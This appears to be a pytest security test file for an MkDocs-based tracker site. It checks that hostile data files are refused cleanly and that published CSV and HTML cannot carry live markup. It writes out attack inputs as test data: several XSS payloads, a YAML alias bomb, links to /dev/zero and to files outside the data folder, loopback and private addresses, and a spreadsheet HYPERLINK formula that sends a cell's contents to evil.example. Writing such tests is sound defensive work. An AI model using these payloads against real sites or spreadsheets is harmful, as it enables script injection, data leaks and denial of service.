"""A hostile contributor's inputs: each is refused with a clear message, never a traceback or a
hang, and the last good site stays exactly as it was.

Each case is the input as the security review found it; `make validate` and `mkdocs build`
both run on it as a contributor would run them.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import FIXTURE_DATA, ROOT, built_site, mkdocs_build

from tracker import load as load_module
from tracker.load import DataError, load

Edit = Callable[[Path], None]

# One problem as validation prints it: printable, one line, no character that would reorder it.
PROBLEM = re.compile(r"[^\s:]+:\d+:\d+: \S[^\n\u202a-\u202e\u2066-\u2069]*")


def digest(site: Path) -> dict[str, str]:
    """Every file of a built site with a hash of its bytes."""
    return {
        str(p.relative_to(site)): hashlib.sha256(p.read_bytes()).hexdigest() for p in site.rglob("*") if p.is_file()
    }


@pytest.fixture(scope="module")
def good_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    out = built_site(tmp_path_factory.mktemp("good") / "site", env={"SOURCE_DATE_EPOCH": "1700000000"})
    return out, digest(out)


def validate(data: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "tracker.validate", str(data)],
        cwd=data.parent,
        capture_output=True,
        text=True,
        timeout=60,  # a hang fails the test instead of stalling the suite
        check=False,
    )


def replace(relative: str, old: str, new: str) -> Edit:
    def edit(data: Path) -> None:
        path = data / relative
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {relative}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return edit


def prefix(relative: str, key: str, text: str) -> Edit:
    """Put ``text`` before the value of ``key`` (a plain scalar), as a folded block, so that
    no YAML quoting rule gets in the way of the payload."""

    def edit(data: Path) -> None:
        path = data / relative
        lines = path.read_text(encoding="utf-8").splitlines()
        at = next(i for i, line in enumerate(lines) if line.lstrip().startswith(f"{key}: "))
        indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
        value = lines[at].split(": ", 1)[1]
        lines[at : at + 1] = [f"{indent}{key}: >-", f"{indent}  {text} {value}"]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    return edit


def write(relative: str, text: str) -> Edit:
    def edit(data: Path) -> None:
        path = data / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    return edit


def symlink(relative: str, target: Callable[[Path], Path]) -> Edit:
    def edit(data: Path) -> None:
        (data / relative).symlink_to(target(data))

    return edit


def fifo(relative: str) -> Edit:
    def edit(data: Path) -> None:
        os.mkfifo(data / relative)

    return edit


def outside_file(data: Path) -> Path:
    secret = data.parent / "secret.yml"
    secret.write_text("name: Secret\nsummary: Not part of the data.\ncite: [alpha-report]\n")
    return secret


def outside_folder_with_a_broken_file(data: Path) -> Path:
    folder = data.parent / "elsewhere"
    folder.mkdir()
    (folder / "broken.yml").write_text("name: [unclosed\n")
    return folder


ALIAS_BOMB = "\n".join(
    [
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        *(
            f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
            f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]"
            for i in range(8)
        ),
        "name: Bomb",
        "summary: [*i]",
        "cite: [alpha-report]",
    ]
)

# (what the review tried, the edit, what validation must say)
REFUSED: list[tuple[str, Edit, str]] = [
    (
        "source url breaking out into an img tag",
        replace(
            "sources/alpha-report.yml",
            "url: https://example.org/alpha-report",
            'url: "https://x.example/><img/src/onerror=alert(1)>"',
        ),
        "alpha-report.yml:7:6: 'https://x.example/><img/src/onerror=alert(1)>' is not a web address: "
        "it may not contain '>'",
    ),
    (
        "source url carrying a script tag",
        replace(
            "sources/alpha-report.yml",
            "url: https://example.org/alpha-report",
            'url: "https://x.example/<script>alert(1)</script>"',
        ),
        "is not a web address: it may not contain '<'",
    ),
    (
        "source url opening a details element",
        replace(
            "sources/alpha-report.yml",
            "url: https://example.org/alpha-report",
            'url: "https://x.example/\\"><details open ontoggle=alert(1)>"',
        ),
        "is not a web address: it may not contain '\"'",
    ),
    (
        "javascript: url",
        replace("sources/alpha-report.yml", "url: https://example.org/alpha-report", "url: javascript:alert(1)"),
        "'javascript:alert(1)' is not a web address: it should start with http:// or https://",
    ),
    (
        "data: url",
        replace("sources/alpha-report.yml", "url: https://example.org/alpha-report", "url: data:text/html,hi"),
        "is not a web address: it should start with http:// or https://",
    ),
    (
        "year 9999",
        replace("events/harbour-summit.yml", "date: 2021-06-14", "date: 9999-12-31"),
        "harbour-summit.yml:3:7: '9999-12-31' is out of range: dates run from 1800 to 2199",
    ),
    (
        "year 0000",
        replace("figures/harbour-count.yml", "as_of: 2021-06-14", 'as_of: "0000"'),
        "harbour-count.yml:5:8: '0000' is out of range",
    ),
    (
        "a control character in a name",
        replace("sectors/harbours.yml", "name: Harbours", 'name: "Harb\\x01ours"'),
        "harbours.yml:1:7: remove the control character U+0001",
    ),
    (
        "a NUL character in a name",
        replace("sectors/harbours.yml", "name: Harbours", 'name: "Harb\\0ours"'),
        "harbours.yml:1:7: remove the control character U+0000",
    ),
    (
        "a file name ending in a newline",
        write("sectors/evil\n.yml", "name: Evil\nsummary: A sector.\ncite: [alpha-report]\n"),
        "'evil\\n' is not a valid id for a file name",
    ),
    (
        "a record named index, in place of the section's index page",
        write("sectors/index.yml", "name: Index\nsummary: A sector.\ncite: [alpha-report]\n"),
        "sectors/index.yml:1:1: 'index' is reserved for the site's own pages and files",
    ),
    (
        "a YAML alias bomb",
        write("sectors/bomb.yml", ALIAS_BOMB),
        "bomb.yml:1:4: anchors and aliases (&name, *name) are not allowed in data files",
    ),
    (
        "a recursive anchor",
        write("sectors/loop.yml", "name: Loop\nsummary: &a [*a]\ncite: [alpha-report]\n"),
        "loop.yml:2:10: anchors and aliases (&name, *name) are not allowed in data files",
    ),
    ("a FIFO named like a record", fifo("sectors/pipe.yml"), "pipe.yml:1:1: is not a regular file"),
    (
        "a link to /dev/zero",
        symlink("sectors/zero.yml", lambda _: Path("/dev/zero")),
        "zero.yml:1:1: is a link to a file outside the data folder",
    ),
    (
        "a link to a file outside data/",
        symlink("sectors/secret.yml", outside_file),
        "secret.yml:1:1: is a link to a file outside the data folder",
    ),
    (
        "a broken link",
        symlink("sectors/gone.yml", lambda data: data / "sectors" / "nothing-here.yml"),
        "gone.yml:1:1: is a link to nothing",
    ),
    (
        "a linked folder that loops",
        symlink("sectors/loop", lambda data: data / "sectors"),
        "sectors/loop:1:1: is a link to a folder: records are read from real folders only",
    ),
    (
        "a linked folder holding a broken file",
        symlink("extra", outside_folder_with_a_broken_file),
        "extra:1:1: is a link to a folder",
    ),
    (
        "agreements that upgrade each other",
        replace(
            "agreements/harbour-accord.yml",
            "sectors: [harbours]\nsummary: An accord",
            "relations:\n  - type: upgrades\n    agreement: harbour-mou\n    cite: [alpha-report]\n"
            "sectors: [harbours]\nsummary: An accord",
        ),
        "'harbour-mou' leads back to this record (harbour-accord → harbour-mou → harbour-accord)",
    ),
    (
        "a file far larger than any record",
        write("sectors/huge.yml", "name: Huge\nsummary: " + "x" * 300_000 + "\ncite: [alpha-report]\n"),
        "huge.yml:1:1: larger than 256 KiB",
    ),
    # Markdown takes time that grows with the square of a paragraph's escaped characters: this
    # file, under the size limit, took five minutes to build.
    (
        "a summary of 240,000 '<'",
        write("sectors/slow.yml", "name: Slow\nsummary: " + "<" * 240_000 + "\ncite: [alpha-report]\n"),
        "slow.yml:2:10: 'summary' is 240,000 characters long: at most 2,000 are allowed",
    ),
    (
        "a name of 400 '&'",
        replace("sectors/harbours.yml", "name: Harbours", f"name: '{'&' * 400}'"),
        "harbours.yml:1:7: 'name' is 400 characters long: at most 300 are allowed",
    ),
    (
        "a required name of spaces only",
        replace("sectors/harbours.yml", "name: Harbours", "name: '   '"),
        "harbours.yml:1:7: 'name' is empty",
    ),
    (
        "a source title of white space only",
        replace(
            "sources/alpha-report.yml",
            "title: Alpha Gazette report on the harbour accord",
            'title: "\\t \\n \\u3000"',
        ),
        "alpha-report.yml:2:8: 'title' is empty",
    ),
    (
        "an id of 251 characters",
        write(f"sectors/{'a' * 251}.yml", "name: Long\nsummary: A sector.\ncite: [alpha-report]\n"),
        "is 251 characters long: an id may have at most 100",
    ),
    (
        "a reference of 101 characters",
        replace("sectors/harbours.yml", "cite: [alpha-report]", f"cite: [{'a' * 101}]"),
        "harbours.yml:3:8: 'cite' is 101 characters long: at most 100 are allowed",
    ),
    (
        "an amount of .inf",
        replace("figures/harbour-count.yml", 'value: "12"', 'value: "12"\namount: .inf'),
        "harbour-count.yml:4:9: 'amount' should be a finite number, not the number inf",
    ),
    (
        "an amount of .nan",
        replace("figures/harbour-count.yml", 'value: "12"', 'value: "12"\namount: .NaN'),
        "harbour-count.yml:4:9: 'amount' should be a finite number, not the number nan",
    ),
    (
        "an amount of 1e400",
        replace("figures/harbour-count.yml", 'value: "12"', 'value: "12"\namount: 1.0e+400'),
        "harbour-count.yml:4:9: 'amount' should be a finite number",
    ),
    (
        "a source address naming a user before the real host",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "https://www.gov.sg@evil.example/"),
        "alpha-report.yml:7:6: 'https://www.gov.sg@evil.example/' is not a web address to link: it names a user"
        " or password before '@', and leads to 'evil.example'",
    ),
    (
        "a source address with a Cyrillic letter in its host",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "https://www.g\u043ev.sg/"),
        "is written in Unicode: write it as the browser sends it, 'www.xn--gv-fmc.sg'",
    ),
    (
        "a source address whose punycode host mixes Latin and Cyrillic",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "https://www.xn--gv-fmc.sg/"),
        "reads 'g\u043ev' in Unicode, mixing the Cyrillic and Latin scripts",
    ),
    (
        "a source address on the loopback address, with a port",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "http://127.0.0.1:8000/"),
        "'http://127.0.0.1:8000/' is not a public web address: its host 127.0.0.1 is an IP address (loopback)",
    ),
    (
        "a source address on the IPv6 loopback",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "http://[::1]/"),
        "its host ::1 is an IP address (loopback)",
    ),
    (
        "a source address on 127.0.0.1 written in hexadecimal",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "https://0x7f000001/"),
        "its host '0x7f000001' is a number that browsers read as an IP address",
    ),
    (
        "a source address on localhost",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "http://localhost/admin"),
        "its host 'localhost' is a name only this machine or a local network knows",
    ),
    (
        "a source address on a private network",
        replace("sources/alpha-report.yml", "https://example.org/alpha-report", "https://192.168.1.1/"),
        "its host 192.168.1.1 is an IP address (private)",
    ),
    (
        "a right-to-left override in a name",
        replace("sectors/harbours.yml", "name: Harbours", 'name: "Harb\\u202eours"'),
        "harbours.yml:1:7: remove the invisible character '\\u202e' (right-to-left override) at character 5",
    ),
    (
        "a zero-width space written as such in a summary",
        replace("sectors/harbours.yml", "summary: Ports,", "summary: Ports\u200b,"),
        "harbours.yml:2:10: remove the invisible character '\\u200b' (zero width space) at character 6",
    ),
    (
        "an old id that is a year, on a split index the year's page",
        replace(
            "agreements/harbour-accord.yml", "short_name: HA", "short_name: HA\nrenamed_from: [old-accord, '2024']"
        ),
        "harbour-accord.yml:3:28: '2024' is the address of one of the site's own pages",
    ),
    (
        "an old id that is undated",
        replace("agreements/harbour-accord.yml", "short_name: HA", "short_name: HA\nrenamed_from: [undated]"),
        "harbour-accord.yml:3:16: 'undated' is the address of one of the site's own pages",
    ),
    (
        "an old id that is index",
        replace("sectors/harbours.yml", "name: Harbours", "name: Harbours\nrenamed_from: [index]"),
        "harbours.yml:2:16: 'index' is the address of one of the site's own pages",
    ),
    (
        "a record file named in capitals",
        write("sectors/shouting.YML", "name: Shouting\nsummary: A sector.\ncite: [alpha-report]\n"),
        "sectors/shouting.YML:1:1: 'shouting.YML' is not read: a record's file name ends in .yml or .yaml,"
        " in lower case; rename it shouting.yml",
    ),
    (
        "a record file with a .YAML extension",
        write("sectors/shouting.YAML", "name: Shouting\nsummary: A sector.\ncite: [alpha-report]\n"),
        "sectors/shouting.YAML:1:1: 'shouting.YAML' is not read",
    ),
    (
        "a record file saved as text",
        write("sectors/saved.yml.txt", "name: Saved\nsummary: A sector.\ncite: [alpha-report]\n"),
        "sectors/saved.yml.txt:1:1: 'saved.yml.txt' is not read: a record's file name ends in .yml or .yaml,"
        " not '.yml.txt'; rename it saved.yml",
    ),
    (
        "a backup whose record is not there",
        write("sectors/gone.yaml~", "name: Gone\nsummary: A sector.\ncite: [alpha-report]\n"),
        "sectors/gone.yaml~:1:1: 'gone.yaml~' is not read",
    ),
    (
        "a file with no extension in a collection folder",
        write("sectors/notes", "name: Notes\n"),
        "sectors/notes:1:1: 'notes' is not read: a collection folder holds only records",
    ),
    (
        "a line break in an echoed value",
        replace("agreements/harbour-accord.yml", "kind: free-trade-agreement", 'kind: "free-trade\\nagreement"'),
        "harbour-accord.yml:6:7: 'free-trade\\nagreement' is not a known kind",
    ),
    (
        "a NUL byte in the middle of a file",
        replace("sectors/harbours.yml", "shipping lanes", "shipping\0lanes"),
        "harbours.yml:2:25: remove the control character U+0000 at byte 40: text may not hold it",
    ),
]


@pytest.mark.parametrize(("what", "edit", "message"), REFUSED, ids=[case[0] for case in REFUSED])
def test_bad_input_is_refused_and_the_last_good_site_stays(
    what: str, edit: Edit, message: str, tmp_path: Path, good_site: tuple[Path, dict[str, str]]
) -> None:
    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    edit(data)
    checked = validate(data)
    assert checked.returncode == 1, checked.stdout
    assert message in checked.stderr
    assert "Traceback" not in checked.stderr
    # Each problem on a line of its own, as file:line:column: what, whatever the input held.
    header, *lines = checked.stderr.splitlines()
    assert header.endswith("in the data:")
    assert lines
    assert all(PROBLEM.fullmatch(line) for line in lines), checked.stderr
    # The build refuses the same data, and the site built before is untouched.
    site = tmp_path / "site"
    shutil.copytree(good_site[0], site)
    temp = tmp_path / "tmp"
    temp.mkdir()
    # A refused input stops the build at once: minutes would mean it got past validation.
    built = mkdocs_build(site, data=data, env={"TMPDIR": str(temp)}, timeout=300)
    assert built.returncode == 1
    assert message in built.stderr
    assert "Traceback" not in built.stderr
    assert digest(site) == good_site[1]
    assert list(temp.iterdir()) == [], "a failed build left temporary files"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        n for n in ("data", "site", "tmp", "secret.yml", "elsewhere") if (tmp_path / n).exists()
    ), "a failed build left its staging folder beside the site"


def test_editor_files_and_hidden_files_are_not_records(tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    # Emacs' lock file is a broken link named .#<file>; Vim and backups leave others.
    (data / "sectors" / ".#harbours.yml").symlink_to("user@host.1234:1700000000")
    (data / "sectors" / "#harbours.yml#").write_text("name: [autosave")
    (data / "sectors" / "harbours.yml~").write_text("name: [backup")
    (data / "sectors" / ".harbours.yml.swp").write_bytes(b"\0\1binary")
    checked = validate(data)
    assert checked.returncode == 0, checked.stderr
    assert f"{len(load(FIXTURE_DATA))} records, no problems" in checked.stdout


def test_a_strict_mode_abort_after_pages_were_written_keeps_the_last_good_site(
    project_copy: Path, tmp_path: Path, good_site: tuple[Path, dict[str, str]]
) -> None:
    # A hand-written page with a broken link: MkDocs writes every page, then aborts in
    # strict mode after on_post_build.
    (project_copy / "docs" / "broken.md").write_text("# Broken\n\n[nowhere](nowhere.md)\n")
    site = tmp_path / "site"
    shutil.copytree(good_site[0], site)
    built = mkdocs_build(site, project=project_copy)
    assert built.returncode == 1
    assert "Aborted with" in built.stdout + built.stderr
    assert digest(site) == good_site[1]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site")] == []


def test_a_successful_build_replaces_the_site_whole(tmp_path: Path, good_site: tuple[Path, dict[str, str]]) -> None:
    site = tmp_path / "site"
    shutil.copytree(good_site[0], site)
    (site / "left-over.html").write_text("from an older build")
    built = mkdocs_build(site, env={"SOURCE_DATE_EPOCH": "1700000000"})
    assert built.returncode == 0, built.stderr
    assert digest(site) == good_site[1]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]


def test_derived_text_cannot_break_out_of_its_attribute(tmp_path: Path) -> None:
    payload = "[x](autofocus/onfocus=alert(1)//)"
    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    prefix("events/harbour-talks.yml", "derived", payload)(data)
    prefix("agreements/harbour-accord.yml", "derived", payload)(data)
    prefix("agreements/harbour-accord.yml", "name", payload)(data)
    site = tmp_path / "site"
    built = mkdocs_build(site, data=data)
    assert built.returncode == 0, built.stderr
    for page in ("events/harbour-talks/index.html", "agreements/harbour-accord/index.html", "timeline/index.html"):
        soup = BeautifulSoup((site / page).read_text(encoding="utf-8"), "html.parser")
        handlers = [(t.name, a) for t in soup.find_all(True) for a in t.attrs if a.lower().startswith("on")]
        assert handlers == [], page
        # The reasoning a derived mark opens is shown as typed, as text.
        reasons = [soup.find(id=t["popovertarget"]).get_text() for t in soup.select("button.tk-derived")]
        assert any(payload in reason for reason in reasons), page
    timeline = BeautifulSoup((site / "timeline/index.html").read_text(encoding="utf-8"), "html.parser")
    labels = [a["aria-label"] for a in timeline.select(".tk-axis a")]
    assert any(f"{payload} Harbour Accord" in label for label in labels)


def test_two_thousand_unknown_keys_are_each_reported_from_one_parse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    extra = "".join(f"unknown{i}: x\n" for i in range(2000))
    write("sectors/keys.yml", f"name: Keys\nsummary: Many keys.\ncite: [alpha-report]\n{extra}")(data)
    files = len(load(FIXTURE_DATA)) + 1  # the fixture's and the bad one
    parses = []
    compose = load_module._compose
    monkeypatch.setattr(load_module, "_compose", lambda text: parses.append(1) or compose(text))
    started = time.perf_counter()
    with pytest.raises(DataError) as err:
        load(data)
    elapsed = time.perf_counter() - started
    assert len(err.value.problems) == 2000
    assert str(err.value.problems[0]).endswith("keys.yml:4:1: unknown key 'unknown0'")
    assert len(parses) == files  # one parse per file
    print(f"2,000 problems in one file reported in {elapsed:.2f} s")


def test_the_published_csv_cannot_carry_a_live_formula(tmp_path: Path) -> None:
    from tracker import export
    from tracker.queries import Queries

    data = tmp_path / "data"
    shutil.copytree(FIXTURE_DATA, data)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    prefix("agreements/harbour-mou.yml", "summary", formula)(data)
    prefix("sectors/harbours.yml", "name", "+1+1")(data)
    prefix("agreements/harbour-accord.yml", "short_name", "@SUM(A1)")(data)
    prefix("events/harbour-summit.yml", "place", "-2+3")(data)
    files = export.files(Queries(load(data)), "https://example.org/")
    cells = []
    for path, content in files.items():
        if path.endswith(".csv"):
            cells += [cell for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith(f"'{formula} Sets up joint training") for cell in cells)
    assert "'+1+1 Harbours" in cells
    assert "'@SUM(A1) HA" in cells
    assert "'-2+3 Port Alpha" in cells


def test_no_temporary_folder_is_left_by_a_build_that_fails_late(project_copy: Path, tmp_path: Path) -> None:
    (project_copy / "tracker" / "templates" / "sector.md.j2").write_text("{{ q.no_such_query() }}\n")
    temp = tmp_path / "tmp"
    temp.mkdir()
    built = mkdocs_build(tmp_path / "out" / "site", project=project_copy, env={"TMPDIR": str(temp)})
    assert built.returncode == 1
    assert "sector.md.j2:1" in built.stderr, built.stderr
    assert list(temp.iterdir()) == []
    assert list((tmp_path / "out").iterdir()) == []


def test_a_build_for_publishing_refuses_a_local_address(tmp_path: Path) -> None:
    local = mkdocs_build(tmp_path / "local")
    assert local.returncode == 0, local.stderr
    assert "Set SITE_URL=https://" in local.stderr  # said loudly, but a local build may go on
    refused = mkdocs_build(tmp_path / "refused", env={"TRACKER_PUBLISH": "true"})
    assert refused.returncode == 1
    assert "refusing to publish: site_url 'http://127.0.0.1:8000/'" in refused.stderr
    assert not (tmp_path / "refused").exists()


# What `make publish` was found to accept although the README says it refuses it.
NOT_PUBLIC = [
    "http://tracker.example.org/",
    "ftp://tracker.example.org/",
    "https://127.0.0.2/",
    "https://127.1/",
    "https://[::ffff:127.0.0.1]/",
    "https://localhost./",
    "https://10.1.2.3/",
    "https://192.168.0.10/",
    "https://user:pass@tracker.example.org/",
    "https://tracker/",
]


@pytest.mark.parametrize("site_url", NOT_PUBLIC)
def test_a_build_for_publishing_refuses_an_address_that_is_not_public(site_url: str, tmp_path: Path) -> None:
    refused = mkdocs_build(tmp_path / "site", env={"TRACKER_PUBLISH": "true", "SITE_URL": site_url})
    assert refused.returncode == 1
    assert "refusing to publish: site_url" in refused.stderr, refused.stderr
    assert "Traceback" not in refused.stderr
    assert not (tmp_path / "site").exists()


def test_no_build_takes_a_site_url_that_would_be_markup(tmp_path: Path) -> None:
    """The site_url is written into every page's canonical link and every citation."""
    for publish in ("true", "false"):
        site_url = 'https://example.org/"><script>alert(1)</script>'
        refused = mkdocs_build(tmp_path / publish, env={"TRACKER_PUBLISH": publish, "SITE_URL": site_url})
        assert refused.returncode == 1, refused.stderr
        assert "which no page may carry as it is" in refused.stderr
        assert not (tmp_path / publish).exists()


def test_a_published_build_names_no_local_address(tmp_path: Path) -> None:
    site = tmp_path / "site"
    publish = {
        "TRACKER_PUBLISH": "true",
        "SITE_URL": "https://tracker.example.org/",
        "TRACKER_CORRECTIONS": "https://tracker.example.org/issues/new",
    }
    built = mkdocs_build(site, env=publish)
    assert built.returncode == 0, built.stderr
    assert "SITE_URL" not in built.stderr
    local = [
        str(p.relative_to(site))
        for p in site.rglob("*")
        if p.is_file() and p.suffix in {".html", ".json", ".csv", ".ics", ".xml"} and b"127.0.0.1" in p.read_bytes()
    ]
    assert local == []
    assert b"https://tracker.example.org/agreements/harbour-accord/" in (site / "feed.xml").read_bytes()
    page = (site / "agreements" / "harbour-accord" / "index.html").read_text(encoding="utf-8")
    assert 'href="https://tracker.example.org/agreements/harbour-accord/"' in page  # the citation
    assert '<link rel="alternate" type="application/atom+xml"' in page


def test_a_section_missing_from_the_nav_stops_the_build(project_copy: Path, tmp_path: Path) -> None:
    config = project_copy / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("  - Figures: figures/index.md\n", ""))
    built = mkdocs_build(tmp_path / "site", project=project_copy)
    assert built.returncode == 1
    assert "mkdocs.yml's nav does not list figures/index.md" in built.stderr


def test_a_killed_build_leaves_nothing_the_next_build_does_not_remove(tmp_path: Path) -> None:
    """kill -9 gives a build no chance to clean up: its staging folder stays, ignored by git,
    until the next build removes it (tracker/site/staging.py)."""
    out = tmp_path / "out" / "site"
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "TRACKER_DATA": str(FIXTURE_DATA)}
    build = subprocess.Popen(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(out)],
        cwd=ROOT,
        env=env,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while not any((tmp_path / "out").glob(".site-building-*/*")) and time.monotonic() < deadline:
        time.sleep(0.02)
    build.kill()
    build.wait()
    [left] = (tmp_path / "out").glob(".site-building-*")
    ignored = subprocess.run(["git", "check-ignore", "-q", f".site-building-{left.name[-8:]}/"], cwd=ROOT, check=False)
    assert ignored.returncode == 0, "git would list a killed build's staging folder"
    assert mkdocs_build(out).returncode == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["site"]


def test_a_running_build_s_staging_folder_is_not_taken_for_a_leftover(tmp_path: Path) -> None:
    from tracker.site.staging import StagedSite, remove_leftovers

    running = StagedSite()
    staging = Path(running.stage(str(tmp_path / "site")))
    assert remove_leftovers(tmp_path / "site") == []
    assert staging.is_dir()
    running.discard()
    assert not staging.exists()
